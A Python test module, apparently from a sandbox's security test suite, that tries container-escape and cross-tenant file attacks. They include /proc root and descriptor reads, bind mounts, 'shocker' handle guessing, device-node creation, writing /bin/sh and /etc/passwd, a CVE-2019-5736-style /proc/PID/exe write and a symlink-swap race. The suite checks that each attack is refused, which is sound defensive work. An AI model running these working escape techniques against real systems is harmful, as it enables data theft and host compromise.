"""Attacks on files: other slots' and the host's, by path, by link, by process, by mount."""

from __future__ import annotations

import ctypes
import os
import pathlib
import resource
import signal
import socket
import stat
import sys

sys.path.insert(0, str(pathlib.Path(__file__).parents[3]))
from tests.attack.programs.tenant import Target, libc, main, read, refused, show, syscall, victims, worked

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MS_BIND, MS_REC, MS_REMOUNT = 4096, 16384, 32
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def by_path(target: Target) -> None:
    for path in target["paths"]:
        for way in (path, f"/proc/self/root{path}", f"/proc/self/cwd/../../../../../../..{path}"):
            with refused():
                show(read(way))


def by_listing(target: Target) -> None:
    for directory in target["directories"]:
        with refused():
            if any(target["mark"] in name for name in os.listdir(directory)):
                worked(f"{directory} was listed")


def by_search(target: Target) -> None:
    """Go through everything that can be seen, for a name with the mark. Shared directories are an attack of its own."""
    skipped = ("/proc", "/sys", "/usr", "/lib", "/dev/shm", "/tmp", "/var/tmp")
    for root, directories, names in os.walk("/"):
        directories[:] = [name for name in directories if os.path.join(root, name) not in skipped]
        for name in names:
            if name == f"secret-{target['mark']}":
                with refused():
                    show(read(os.path.join(root, name)))


def change(target: Target) -> None:
    for path in target["paths"]:
        for do in (
            lambda path: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC)),
            lambda path: os.truncate(path, 0),
            lambda path: os.rename(path, f"{path}.moved"),
            os.unlink,
            lambda path: os.chmod(path, 0),
            lambda path: os.close(os.open(f"{os.path.dirname(path)}/planted", os.O_CREAT | os.O_WRONLY)),
            lambda path: os.utime(path, (0, 0)),
            lambda path: os.setxattr(path, "user.attack", b"x"),
        ):
            with refused():
                do(path)


def by_root(target: Target) -> None:
    for pid in victims(target):
        for path in target["paths"]:
            for base in (f"/proc/{pid}/root", f"/proc/{pid}/task/{pid}/root"):
                with refused():
                    show(read(f"{base}{path}"))
        for path in target["paths"]:
            with refused():
                show(read(f"/proc/{pid}/cwd/{os.path.basename(path)}"))


def by_descriptor(target: Target) -> None:
    for pid in victims(target):
        with refused():
            for number in os.listdir(f"/proc/{pid}/fd"):
                with refused():
                    path = f"/proc/{pid}/fd/{number}"
                    if stat.S_ISREG(os.stat(path).st_mode):
                        show(read(path))


def by_hard_link(target: Target) -> None:
    for number, path in enumerate(target["paths"]):
        with refused():
            os.link(path, f"stolen-{number}")
            show(read(f"stolen-{number}"))


def by_bind_mount(target: Target) -> None:
    os.makedirs("here", exist_ok=True)
    here = os.path.abspath("here").encode()
    for namespaces in (0, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS):
        with refused():
            if namespaces:
                syscall("unshare", namespaces)
        for directory in target["directories"]:
            with refused():
                libc("mount", directory.encode(), here, None, MS_BIND | MS_REC, None)
                for name in os.listdir("here"):
                    if target["mark"] in name:
                        show(read(f"here/{name}"))
            with refused():
                tree = syscall("open_tree", AT_FDCWD, directory.encode(), 1)
                for name in os.listdir(tree):
                    if target["mark"] in name:
                        show(os.read(os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=tree), 1000))


def by_uncovering(target: Target) -> None:
    """Take away what covers the sandbox's own files: in place, and in a user namespace that owns a copy of the
    mounts.
    """
    for namespaces in (0, CLONE_NEWUSER | CLONE_NEWNS):
        with refused():
            if namespaces:
                syscall("unshare", namespaces)
        mounts = [line.split()[4] for line in read("/proc/self/mountinfo", 1 << 20).decode().splitlines()]
        for mount in reversed(mounts):
            if mount != "/proc":
                with refused():
                    libc("umount2", mount.encode(), 2)
        for path in target["paths"]:
            with refused():
                show(read(path))


def by_handle(target: Target) -> None:
    """Guess the handles of files of the same file system (`shocker`): no path is needed then."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))

    own, mount_id = Handle(128), ctypes.c_int()
    syscall("name_to_handle_at", AT_FDCWD, b".", ctypes.byref(own), ctypes.byref(mount_id), 0)
    inodes = [*target.get("inodes", ()), 2]
    for inode in inodes:
        with refused():
            guess = Handle(own.size, own.kind)
            ctypes.memmove(guess.data, own.data, own.size)
            ctypes.memmove(guess.data, int(inode).to_bytes(4, "little"), 4)
            directory = os.open(".", os.O_RDONLY)
            file = syscall("open_by_handle_at", directory, ctypes.byref(guess), os.O_RDONLY)
            worked(f"a file was opened by its handle alone: {os.readlink(f'/proc/self/fd/{file}')}")


def by_inherited_descriptor(target: Target) -> None:
    """Descriptors that were left open in us: any beyond the three that we were given."""
    for name in os.listdir("/proc/self/fd"):
        with refused():
            link = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and not link.startswith("/proc/"):
                worked(f"descriptor {name} is {link}")


def devices(target: Target) -> None:
    """The disks and memory of the machine, by the nodes that are there and by nodes of our own."""
    numbers = [
        (os.makedev(1, 1), "char"),
        (os.makedev(1, 2), "char"),
        (os.makedev(1, 11), "char"),
        (os.makedev(10, 237), "char"),
    ]
    with refused():
        for line in read("/proc/partitions").decode().splitlines()[2:]:
            major, minor = line.split()[:2]
            numbers.append((os.makedev(int(major), int(minor)), "block"))
    for number, kind in numbers:
        with refused():
            path = f"node-{number}"
            os.mknod(path, 0o666 | (stat.S_IFCHR if kind == "char" else stat.S_IFBLK), number)
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            worked(f"{kind} device {os.major(number)}:{os.minor(number)} was opened")
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console", "stdin", "stdout", "stderr"}
    for name in os.listdir("/dev"):
        path = f"/dev/{name}"
        with refused():
            if name not in harmless and stat.S_IFMT(os.stat(path).st_mode) in (stat.S_IFCHR, stat.S_IFBLK):
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                worked(f"{path} was opened")


def system_files(target: Target) -> None:
    """Change the programs that everybody runs, ours too, in place and after taking off the write protection."""
    places = ["/usr/bin/env", "/bin/sh", "/etc/passwd", "/usr/lib", "/etc", "/"]
    for namespaces in (0, CLONE_NEWUSER | CLONE_NEWNS):
        with refused():
            if namespaces:
                syscall("unshare", namespaces)
        for mount in ("/", "/usr", "/etc"):
            with refused():
                libc("mount", None, mount.encode(), None, MS_REMOUNT | MS_BIND, None)
        for path in places:
            with refused():
                if os.path.isdir(path):
                    os.close(os.open(f"{path}/planted-{target['mark']}", os.O_CREAT | os.O_WRONLY))
                    os.unlink(f"{path}/planted-{target['mark']}")
                else:
                    os.close(os.open(path, os.O_WRONLY))
                worked(f"{path} can be written")


def runner_program(target: Target) -> None:
    """Open the program of a process that is not ours for writing, by /proc/PID/exe (as CVE-2019-5736 did)."""
    for pid in victims(target):
        for flags in (os.O_WRONLY, os.O_RDWR | os.O_APPEND):
            with refused():
                os.close(os.open(f"/proc/{pid}/exe", flags))
                worked(f"the program of process {pid} can be written")


def swap(target: Target) -> None:
    """Exchange a directory of ours and a link to the target's without end, while the driver works on paths through
    it.
    """
    at = target["at"]
    os.makedirs(at)
    pathlib.Path(at, os.path.basename(target["paths"][0])).write_text("own")
    os.symlink(target["directories"][0], f"link-{at}")
    print("ready", flush=True)
    while True:
        with refused():
            syscall("renameat2", AT_FDCWD, at.encode(), AT_FDCWD, f"link-{at}".encode(), RENAME_EXCHANGE)


def links(target: Target) -> None:
    for number, path in enumerate(target["paths"]):
        with refused():
            os.symlink(path, f"link-{number}")
    for number, directory in enumerate(target["directories"]):
        with refused():
            os.symlink(directory, f"directory-{number}")


def special(target: Target) -> None:
    os.makedirs("special", exist_ok=True)
    os.mkfifo("special/fifo")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind("special/socket")
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("special/sparse", "wb") as file, refused():
        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.getrlimit(resource.RLIMIT_FSIZE)[1],) * 2)
        file.truncate(1 << 25)
        file.truncate(1 << 40)
    os.symlink("/dev/zero", "special/to-zero")
    os.symlink("to-itself", "special/to-itself")


main(globals())
